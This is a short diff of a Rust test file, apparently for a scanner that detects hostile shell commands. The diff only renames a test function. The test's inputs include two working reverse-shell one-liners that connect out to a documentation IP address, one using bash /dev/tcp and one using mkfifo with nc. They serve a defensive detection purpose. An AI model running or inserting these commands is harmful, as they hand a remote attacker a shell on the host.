@@ -83,7 +83,7 @@ fn what_is_fetched_or_decoded_is_followed_to_what_runs_it() {
 }
 
 #[test]
-fn shells_on_connections_are_told_however_they_are_wired() {
+fn shells_on_connections_are_found_however_they_are_wired() {
     for command in [
         "bash -i >& /dev/tcp/203.0.113.5/80 0>&1",
         "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 80 > /tmp/f",
